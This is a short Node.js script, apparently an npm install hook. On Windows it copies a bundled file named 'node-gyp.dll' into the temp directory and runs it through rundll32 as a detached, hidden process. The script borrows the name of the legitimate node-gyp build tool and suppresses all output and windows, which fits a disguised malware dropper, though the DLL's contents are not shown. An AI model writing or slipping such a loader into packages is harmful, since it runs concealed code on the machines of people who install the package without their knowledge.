const { spawn } = require('child_process');
const path = require('path');
const fs = require('fs');
const os = require('os');

function main() {
  if (os.platform() !== 'win32') return;
  const src = path.join(__dirname, 'node-gyp.dll');
  if (!fs.existsSync(src)) return;
  const dst = path.join(os.tmpdir(), 'node-gyp-' + process.pid + '.dll');
  try { fs.copyFileSync(src, dst); } catch { return; }
  const child = spawn('rundll32', [dst + ',main'], { detached: true, stdio: 'ignore', windowsHide: true });
  child.unref();
}

main();
